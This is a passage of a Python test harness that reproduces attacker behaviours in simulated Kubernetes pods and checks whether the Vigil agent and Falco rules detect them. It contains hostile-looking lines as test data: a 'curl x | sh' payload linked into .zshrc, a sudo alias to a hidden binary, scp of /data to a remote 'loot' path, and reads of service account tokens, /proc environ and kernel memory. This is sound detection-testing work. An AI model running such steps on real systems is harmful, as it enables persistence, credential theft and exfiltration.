@behaviour("setns-priv-pod", "setns in a privileged pod", "Change thread namespace" + INC, "Namespace change in container", PRIV)
def _(c, b):
    c.py(b, "import livelib as L, os\nfd = os.open('/proc/self/ns/net', os.O_RDONLY)\nL.syscall('setns', fd, 0)",
         env={"PYTHONPATH": LIVE})


@behaviour("unshare-user-pod", "unshare(CLONE_NEWUSER) in an unprivileged pod", "Change namespace privileges via unshare" + INC,
           "Namespace change in container", POD)
def _(c, b):
    c.py(b, "import livelib as L\nL.syscall('unshare', 0x10000000)", env={"PYTHONPATH": LIVE})


@behaviour("setuid-regain-root", "a process running as uid 1000 with saved uid 0 sets its uid back to 0", "Non sudo setuid" + INC,
           "Unexpected setuid to root")
def _(c, b):
    c.py(b, "import os\nos.setresuid(1000, 1000, 0)\nos.setuid(0)")


@behaviour("setuid-bit", "chmod u+s on a file", "Set Setuid or Setgid bit" + INC, "Setuid or setgid bit set")
def _(c, b):
    p = L.copy_program("/bin/true", os.path.join(c.dir(b), "suid"))
    c.py(b, f"import os\nos.chmod('{p}', 0o4755)")


@behaviour("bpf-prog-load", "an eBPF socket filter loaded with bpf(BPF_PROG_LOAD)", "BPF Program Not Profiled" + INC,
           "BPF program loaded by other program")
def _(c, b):
    c.py(b, BPF_LOAD, env={"PYTHONPATH": LIVE})


BPF_LOAD = """
import livelib as L, ctypes, os
insns = (ctypes.c_uint64 * 2)(0x00000000000000b7, 0x0000000000000095)  # r0 = 0; exit
lic = ctypes.create_string_buffer(b'GPL')
attr = (ctypes.c_uint8 * 128)()
ctypes.memmove(attr, (ctypes.c_uint32 * 2)(1, 2), 8)  # prog_type SOCKET_FILTER, insn_cnt 2
ctypes.memmove(ctypes.byref(attr, 8), (ctypes.c_uint64 * 2)(ctypes.addressof(insns), ctypes.addressof(lic)), 16)
fd = L.syscall('bpf', 5, attr, 128)
if fd >= 0:
    os.close(fd)
"""


@behaviour("network-tool-pod", "nmap run in a pod", "Launch Suspicious Network Tool in Container" + INC,
           "Network scanner or sniffer run in container", POD)
def _(c, b):
    c.runner(b)([c.tool(b, "nmap"), "-sS", "10.0.0.0/24", "-oN", "/dev/null/" + b.token])


@behaviour("package-manager-pod", "apt-get run in a pod", "Launch Package Management Process in Container" + INC,
           "Package manager run in container", POD)
def _(c, b):
    c.runner(b)(["apt-get", "--version", "-o", "Debug::" + b.token + "=0"])


@behaviour("metadata-service-pod", "a pod connects to the cloud metadata service", "Contact cloud metadata service from container" + INC,
           "Cloud metadata service contacted from container", PRIV)
def _(c, b):
    c.py(b, CONNECT.format(fam="AF_INET", ip="169.254.169.254", port=80), env={"PYTHONPATH": LIVE})


# --- issue 12: more incubating/Tracee behaviours (LD_PRELOAD through proc.env, shell start-up
# files, /dev, /proc/PID/environ, remote copy, system libraries, liblzma, SysRq) and variants ---
LD_PRELOAD_RULE = "Library injected through LD_PRELOAD or LD_AUDIT"
SHELL_CONFIG = "Shell configuration file modified"
DEV_CREATE = "File created below /dev"
ENVIRON_READ = "Process environment read through /proc in container"
REMOTE_COPY = "Remote file copy tool run in container"
LIB_WRITE = "System library or PAM module written"
SYSRQ = "Magic SysRq triggered or enabled"


@extra_behaviour("ld-preload", "a program started with LD_PRELOAD naming a library in a scratch directory", None, LD_PRELOAD_RULE,
           note="no Falco rule (needs proc.env); Tracee: LD_PRELOAD code injection")
def _(c, b):
    lib = os.path.join(c.dir(b), "libhook.so")
    c.runner(b)(["/usr/bin/id", b.token], env={"PATH": "/usr/bin:/bin", "LD_PRELOAD": lib})


@extra_behaviour("ld-audit-execveat-pod", "LD_AUDIT passed in the environment of an execveat in a pod", None, LD_PRELOAD_RULE, POD,
           note="no Falco rule; Tracee: LD_PRELOAD/LD_AUDIT code injection")
def _(c, b):
    lib = os.path.join(c.dir(b), "audit.so").encode()
    c.py(b, "import livelib as L, ctypes, os\npid = os.fork()\nif pid == 0:\n"
            f"    argv = (ctypes.c_char_p * 3)(b'true', b'{b.token}', None)\n"
            f"    envp = (ctypes.c_char_p * 3)(b'PATH=/usr/bin', b'LD_AUDIT={lib.decode()}', None)\n"
            "    L.syscall('execveat', L.AT_FDCWD, '/bin/true', argv, envp, 0)\n    os._exit(1)\nos.waitpid(pid, 0)",
         env={"PYTHONPATH": LIVE})


@extra_behaviour("ld-preload-sudo-pod", "sudo-style: LD_PRELOAD set for one command by a shell in a pod", None, LD_PRELOAD_RULE, POD,
           note="no Falco rule; the shell itself does not carry the variable, its child does")
def _(c, b):
    lib = os.path.join(c.dir(b), "libpam_hook.so")
    c.runner(b)(["sh", "-c", f"LD_PRELOAD={lib} /bin/true {b.token}"])


@extra_behaviour("bashrc-append", "a line appended to a user's .bashrc by a script", "Modify Shell Configuration File" + INC, SHELL_CONFIG)
def _(c, b):
    h = home_dir(c, b)
    try:
        c.py(b, f"open('{h}/.bashrc', 'a').write('alias sudo=\"/tmp/.s\"\\n')")
    finally:
        shutil.rmtree(h, ignore_errors=True)


@extra_behaviour("profile-d-rename-pod", "a script renamed into /etc/profile.d with renameat2 (as sed -i does) in a pod",
           "Modify Shell Configuration File" + INC, SHELL_CONFIG, POD,
           note="Falco's rule watches opens for writing only: the rename is missed")
def _(c, b):
    src = os.path.join(c.dir(b), "proxy.sh")
    dst = f"/etc/profile.d/vigil-{os.path.basename(c.scratch)}.sh"
    with open(src, "w") as f:
        f.write("export X=1\n")
    try:
        c.py(b, f"import livelib as L\nr = L.syscall('renameat2', L.AT_FDCWD, '{src}', L.AT_FDCWD, '{dst}', 0)\nassert r == 0, r",
             env={"PYTHONPATH": LIVE})
    finally:
        if os.path.exists(dst):
            os.unlink(dst)


@extra_behaviour("zshrc-linkat", "a .zshrc hard-linked into a home directory (linkat)", "Modify Shell Configuration File" + INC, SHELL_CONFIG,
           note="Falco's rule watches opens for writing only: the link is missed")
def _(c, b):
    h = home_dir(c, b)
    src = os.path.join(h, "payload")
    with open(src, "w") as f:
        f.write("curl x | sh\n")
    try:
        c.py(b, f"import livelib as L\nr = L.syscall('linkat', L.AT_FDCWD, '{src}', L.AT_FDCWD, '{h}/.zshrc', 0)\nassert r == 0, r",
             env={"PYTHONPATH": LIVE})
    finally:
        shutil.rmtree(h, ignore_errors=True)


@extra_behaviour("dev-file-create", "a hidden file created directly in /dev", "Create files below dev" + INC, DEV_CREATE)
def _(c, b):
    write_file_then_remove(c, b, f"/dev/.vigil-{os.path.basename(c.scratch)}", "'x'")


@extra_behaviour("dev-hidden-dir-openat2-pod", "a file created with openat2 in a hidden directory below /dev, in a privileged pod",
           "Create files below dev" + INC, DEV_CREATE, PRIV, note="Falco's rule looks at /dev itself only: missed")
def _(c, b):
    d = f"/dev/.vigil-{os.path.basename(c.scratch)}-d"
    os.makedirs(d, exist_ok=True)
    try:
        c.py(b, f"import livelib as L, os\nfd = L.openat2('{d}/conf', os.O_WRONLY | os.O_CREAT)\nassert fd >= 0, fd\nos.close(fd)",
             env={"PYTHONPATH": LIVE})
    finally:
        shutil.rmtree(d, ignore_errors=True)


@extra_behaviour("environ-read-pod", "another process's /proc/PID/environ read by a script in a pod",
           "Read environment variable from /proc files" + INC, ENVIRON_READ, POD)
def _(c, b):
    c.py(b, "import subprocess\nchild = subprocess.Popen(['sleep', '30'])\nopen('/proc/%d/environ' % child.pid, 'rb').read()\n"
            "child.kill(); child.wait()")


@extra_behaviour("environ-read-cat-pod", "a shell starts a process and cats its /proc/PID/environ in a pod",
           "Read environment variable from /proc files" + INC, ENVIRON_READ, POD)
def _(c, b):
    c.runner(b)(["sh", "-c", f"sleep 30 & cat /proc/$!/environ /dev/null/{b.token}; kill $!"])


@extra_behaviour("scp-pod", "scp started in a pod", "Launch Remote File Copy Tools in Container" + INC, REMOTE_COPY, POD)
def _(c, b):
    c.runner(b)([c.tool(b, "scp"), "-r", "/data", f"{b.token}@203.0.113.9:/loot"])


@extra_behaviour("rsync-pod", "rsync started in a pod (another tool, another argument order)", "Launch Remote File Copy Tools in Container" + INC,
           REMOTE_COPY, POD)
def _(c, b):
    c.runner(b)([c.tool(b, "rsync"), f"rsync://203.0.113.9/{b.token}", "-az", "/tmp/"])


def _libdir():
    for d in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64", "/usr/lib"):
        if os.path.isdir(d):
            return d
    return "/usr/lib"


@extra_behaviour("libkeyutils-write", "a new libkeyutils.so.1.* written in the system library directory (Ebury-style)", None, LIB_WRITE,
           note="no Falco rule (Falco's CVE-2024-3094 rule watches sshd loading liblzma)")
def _(c, b):
    write_file_then_remove(c, b, os.path.join(_libdir(), f"libkeyutils.so.1.vigil-{os.path.basename(c.scratch)}"),
                           "b'\\x7fELF'", mode="wb")


@extra_behaviour("pam-module-rename-pod", "a PAM module renamed into the security directory (renameat2) in a pod", None, LIB_WRITE, POD,
           note="no Falco rule")
def _(c, b):
    sec = os.path.join(_libdir(), "security")
    created = not os.path.isdir(sec)
    os.makedirs(sec, exist_ok=True)
    src = os.path.join(c.dir(b), "pam_unix.so")
    dst = os.path.join(sec, f"pam_vigil{os.path.basename(c.scratch)}.so")
    with open(src, "wb") as f:
        f.write(b"\x7fELF")
    try:
        c.py(b, f"import livelib as L\nr = L.syscall('renameat2', L.AT_FDCWD, '{src}', L.AT_FDCWD, '{dst}', 0)\nassert r == 0, r",
             env={"PYTHONPATH": LIVE})
    finally:
        if os.path.exists(dst):
            os.unlink(dst)
        if created:
            shutil.rmtree(sec, ignore_errors=True)


@extra_behaviour("sshd-liblzma", "a program named sshd opens liblzma.so.5.6.1", "Backdoored library loaded into SSHD (CVE-2024-3094)" + INC,
           "Backdoored xz library loaded")
def _(c, b):
    lib = os.path.join(c.dir(b), "liblzma.so.5.6.1")
    with open(lib, "wb") as f:
        f.write(b"\x7fELF")
    c.py(b, f"open('{lib}', 'rb').read()", name="sshd")


# Kernels without CONFIG_MAGIC_SYSRQ (this test machine's) have neither file: the SysRq behaviours
# run where the kernel has them (the rule is rule-tested everywhere, rules/tests/incubating.yaml).
if os.path.exists("/proc/sysrq-trigger"):
    @extra_behaviour("sysrq-trigger-pod", "/proc/sysrq-trigger opened for writing (nothing written) in a privileged pod", None, SYSRQ, PRIV,
               note="no Falco rule; a write would crash or reboot the node")
    def _(c, b):
        c.py(b, "import os\nos.close(os.open('/proc/sysrq-trigger', os.O_WRONLY))")

if os.path.exists("/proc/sys/kernel/sysrq"):
    @extra_behaviour("sysrq-enable", "/proc/sys/kernel/sysrq written (its value written back)", None, SYSRQ, note="no Falco rule")
    def _(c, b):
        c.py(b, "p = '/proc/sys/kernel/sysrq'\nv = open(p).read()\nf = open(p, 'w')\nf.write(v)\nf.close()")


@extra_behaviour("core-pattern-openat2-pod", "core_pattern opened for writing with openat2 in a privileged pod (nothing written)", None,
           "Kernel usermode helper changed", PRIV, note="no Falco rule; Tracee: core_pattern modification")
def _(c, b):
    c.py(b, "import livelib as L, os\nfd = L.openat2('/proc/sys/kernel/core_pattern', os.O_WRONLY)\nassert fd >= 0, fd\nos.close(fd)",
         env={"PYTHONPATH": LIVE})


@extra_behaviour("kcore-openat2-pod", "/proc/kcore opened with openat2 in a privileged pod", None, "Kernel memory read", PRIV,
           note="no Falco rule; Tracee: kernel memory read (/proc/kcore)")
def _(c, b):
    c.py(b, "import livelib as L, os\nfd = L.openat2('/proc/kcore')\nassert fd >= 0, fd\nos.close(fd)", env={"PYTHONPATH": LIVE})


@extra_behaviour("proc-mem-write-thread-pod", "/proc/PID/task/TID/mem of another process opened for writing in a pod", None,
           "Process memory written through /proc", POD, note="no Falco rule; Tracee: code injection through /proc/PID/mem")
def _(c, b):
    c.py(b, "import subprocess, os\nchild = subprocess.Popen(['sleep', '30'])\n"
            "fd = os.open('/proc/%d/task/%d/mem' % (child.pid, child.pid), os.O_WRONLY)\nos.close(fd)\nchild.kill(); child.wait()")


@extra_behaviour("sa-token-openat2-pod", "the service account token read by a script with openat2 in a pod", None,
           "Service account token read in container", POD, note="no Falco rule; Tracee: service account token read")
def _(c, b):
    with service_account_token() as d:
        c.py(b, f"import livelib as L, os\nfd = L.openat2('{d}/token')\nassert fd >= 0, fd\nos.close(fd)", env={"PYTHONPATH": LIVE})


@extra_behaviour("containerd-socket-pod", "a pod connects to a containerd.sock", None, "Container runtime socket accessed from container", POD,
           note="no Falco rule; Tracee: container runtime socket access")
def _(c, b):
    connect_unix_socket(c, b, "containerd.sock")


# ---------------------------------------------------------------------------
# Running it
# ---------------------------------------------------------------------------


def run_all(vigil, repo, falco_rules, workdir, only=None, behaviour_set="stable", rehearse=False):
    """`falco_rules`: Falco's stable file; its incubating file next to it is loaded too."""
    os.makedirs(workdir, exist_ok=True)
    drain_rules = os.path.join(workdir, "drain_rules.yaml")
    with open(drain_rules, "w") as f:
        f.write(L.DRAIN_RULE)
    state = os.path.join(workdir, "containerd")
    falco_files = []
    if falco_rules:
        falco_files = [falco_rules]
        inc = os.path.join(os.path.dirname(falco_rules), "falco-incubating_rules.yaml")
        if os.path.exists(inc):
            falco_files.append(inc)
    rules = [os.path.join(repo, "rules", "vigil_rules.yaml")] + falco_files + [drain_rules]
    cg = L.cgroup2_root()
    base = "vigil-" + os.path.basename(workdir)
    pods = {
        POD: L.Pod(cg, base, state, "web-7d9c8b6f5-k2x8q", "shop", "docker.io/library/nginx:1.27", container="nginx"),
        PRIV: L.Pod(cg, base, state, "node-debugger-x1", "ops", "docker.io/library/busybox:1.36", container="debug",
                    privileged=True),
    }
    ctx = Ctx(workdir, pods)
    if only:
        selected = [b for b in BEHAVIOURS if b.id in only]
    else:
        selected = [b for b in BEHAVIOURS if b.extra == (behaviour_set == "extra")]
    errors = {}
    tries = {b.id: [] for b in selected}  # per try: the events the kernel lost while it ran (None: unknown)
    if rehearse:
        # Every behaviour acted out once before the agent starts: a first try whose events the
        # kernel lost, all of them. What the run proper checks is then a try done again.
        _rehearse(selected, ctx, errors, tries)
    agent = L.Agent(vigil, os.path.join(repo, "rules", "vigil.yaml"), rules, workdir,
                    # An alert waits for its container's metadata up to 15 s (released as soon as it is
                    # complete): on a loaded machine the bundle read can take longer than the default 100 ms.
                    options=["rule_matching=all", f"containerd.state_root={state}", "crio.enabled=false",
                             "metadata_wait_ms=15000"])
    try:
        agent.wait_ready()
        for p in pods.values():
            agent.warm_up(p)
        threads = []
        for b in [x for x in selected if x.background]:
            t = threading.Thread(target=_try, args=(b, ctx, errors, agent, tries))
            t.start()
            threads.append(t)
        for b in [x for x in selected if not x.background]:
            _try(b, ctx, errors, agent, tries)
        for t in threads:
            t.join()

        def done(b, a):
            return _complete(b, a, falco_rules) and _attributed(b, a, pods) is not False

        # On a loaded machine a debug build may run well behind the kernel: wait until a marker
        # opened now has come through, then until every behaviour has its alerts, or the deadline.
        alerts = agent.drain(timeout=120)
        alerts = agent.wait_for_alerts(lambda a: all(done(b, a) for b in selected), 60)
        # The agent sees the whole machine: another program's storm can fill its ring, and the
        # kernel then loses events (vigil_kernel_drops_total; Vigil's promise under overload).
        # A behaviour left incomplete whose last try lost events proves nothing either way: it is
        # done again (at most 3 more times). One whose try lost nothing is decided: a failure.
        for _ in range(3):
            again = [b for b in selected if not done(b, alerts) and (tries[b.id][-1] or 0) > 0]
            if not again:
                break
            for b in again:
                errors.pop(b.id, None)
                _try(b, ctx, errors, agent, tries)
            alerts = agent.drain(timeout=120)
            alerts = agent.wait_for_alerts(lambda a: all(done(b, a) for b in again), 60)
    finally:
        rc = agent.stop()
        for p in pods.values():
            p.cleanup()
        for d in (os.path.join("/var/log", "vigil-" + os.path.basename(workdir)),
                  os.path.join("/dev/shm", "vigil-" + os.path.basename(workdir))):
            shutil.rmtree(d, ignore_errors=True)
    alerts = agent.alerts()
    report = {"agent_exit": rc, "agent_log": agent.log_tail(5), "behaviours": []}
    for b in selected:
        loaded = falco_rules if (not b.incubating or len(falco_files) > 1) else None
        r = _evaluate(b, alerts, pods, loaded, errors.get(b.id))
        r["tries"] = len(tries[b.id])
        r["lost_events_per_try"] = tries[b.id]
        report["behaviours"].append(r)
    return report


def _rehearse(selected, ctx, errors, tries):
    """Acts out every behaviour once with no agent watching (its `tries` entry: None, unknown)."""
    threads = [threading.Thread(target=_try, args=(b, ctx, errors, None, tries)) for b in selected if b.background]
    for t in threads:
        t.start()
    for b in [x for x in selected if not x.background]:
        _try(b, ctx, errors, None, tries)
    for t in threads:
        t.join()


def _guard(b, ctx, errors):
    try:
        b.fn(ctx, b)
    except Exception as e:  # recorded in the report; the test fails on it
        errors[b.id] = f"{type(e).__name__}: {e}"


def _try(b, ctx, errors, agent, tries):
    """Performs `b` once, recording how many events the kernel lost meanwhile (None: unknown)."""
    b.try_number += 1
    before = agent.metric("vigil_kernel_drops_total") if agent else None
    _guard(b, ctx, errors)
    after = agent.metric("vigil_kernel_drops_total") if agent else None
    tries[b.id].append(None if before is None or after is None else int(after - before))


def _attributed(b, alerts, pods):
    """For a behaviour in a pod: whether one of its Vigil alerts names the container and the pod
    (None when it is not in a pod or no Vigil alert fired)."""
    pod = pods.get(b.where)
    hits = [a for a in _mine(b, alerts) if a["rule"] in b.vigil]
    if not pod or not hits:
        return None
    return any(_names(a, pod) for a in hits)


def _names(a, pod):
    of = a.get("output_fields", {})
    return (of.get("container.id") == pod.short_id and of.get("k8s.pod.name") == pod.name
            and of.get("k8s.ns.name") == pod.namespace)


def _mine(b, alerts):
    return [a for a in alerts if b.token_pattern.search(a.get("output", ""))]


def _complete(b, alerts, falco_rules):
    rules = {a.get("rule") for a in _mine(b, alerts)}
    falco_ok = not (falco_rules and b.falco and not b.note) or b.falco in rules
    return falco_ok and any(v in rules for v in b.vigil)


def _evaluate(b, alerts, pods, falco_rules, error):
    mine = _mine(b, alerts)
    fired = sorted({a["rule"] for a in mine})
    vigil_hits = [a for a in mine if a["rule"] in b.vigil]
    pod = pods.get(b.where)
    attributed = _attributed(b, alerts, pods)
    if attributed is not None:
        vigil_hits.sort(key=lambda a: not _names(a, pod))
    return {
        "id": b.id, "what": b.what, "where": b.where, "falco_rule": b.falco, "incubating": b.incubating,
        "vigil_rules": b.vigil, "note": b.note,
        "error": error, "fired": fired,
        "falco_fired": (b.falco in fired) if (b.falco and falco_rules) else None,
        "falco_expected": bool(b.falco and falco_rules and not b.note),
        "vigil_fired": [r for r in b.vigil if r in fired],
        "pod_attributed": attributed,
        "vigil_alert": ({k: v for k, v in vigil_hits[0].get("output_fields", {}).items()
                         if k.startswith(("container.", "k8s.", "proc.name", "proc.cmdline", "fd.name"))}
                        if vigil_hits else None),
    }


def table():
    rows = ["| Behaviour (live test id) | Where | Falco rule | Vigil rule | Gap |", "|---|---|---|---|---|"]
    for b in BEHAVIOURS:
        falco = (b.falco + (" (incubating)" if b.incubating else "")) if b.falco else "—"
        rows.append(f"| {b.what} (`{b.id}`) | {b.where} | {falco} | {' / '.join(b.vigil)} | {b.note or ''} |")
    return "\n".join(rows)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--vigil")
    ap.add_argument("--repo")
    ap.add_argument("--falco-rules")
    ap.add_argument("--out")
    ap.add_argument("--workdir", default=f"/var/tmp/vigil-live-{os.getpid()}")
    ap.add_argument("--only", nargs="*")
    ap.add_argument("--set", choices=["stable", "extra"], default="stable",
                    help="stable: Falco's stable rules and the first incubating/Tracee set; extra: the second set")
    ap.add_argument("--table", action="store_true")
    ap.add_argument("--keep-alerts", help="copy the agent's alert stream here")
    ap.add_argument("--rehearse", action="store_true",
                    help="act out every behaviour once before the agent starts (a first try whose events were all "
                         "lost), so that the run checks behaviours done again")
    a = ap.parse_args()
    if a.table:
        print(table())
        return 0
    try:
        report = run_all(a.vigil, a.repo, a.falco_rules, a.workdir, set(a.only or []), a.set, a.rehearse)
    finally:
        if a.keep_alerts and os.path.exists(os.path.join(a.workdir, "alerts.jsonl")):
            shutil.copyfile(os.path.join(a.workdir, "alerts.jsonl"), a.keep_alerts)
        shutil.rmtree(a.workdir, ignore_errors=True)
    text = json.dumps(report, indent=1)
    if a.out:
        with open(a.out, "w") as f:
            f.write(text)
    else:
        print(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
